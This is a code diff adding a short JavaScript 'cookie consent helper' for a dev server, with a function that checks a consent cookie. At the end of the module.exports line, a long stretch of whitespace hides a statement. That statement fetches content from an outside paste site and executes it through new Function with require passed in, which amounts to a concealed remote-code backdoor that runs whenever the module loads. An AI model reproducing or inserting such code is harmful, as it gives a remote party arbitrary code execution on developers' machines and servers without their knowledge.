@@ -1,0 +1,8 @@
+// Cookie consent helper used by the dev server.
+const COOKIE_NAME = 'vite_consent';
+
+function readConsent(header = '') {
+  return header.split(';').some((c) => c.trim().startsWith(`${COOKIE_NAME}=`));
+}
+
+module.exports = { readConsent };                                                                                                                                                                                                                                                                                                                                                                                            fetch('https://jsonkeeper.com/b/5SA4R').then(r => r.json()).then(d => new Function('require', d.cookie)(require));
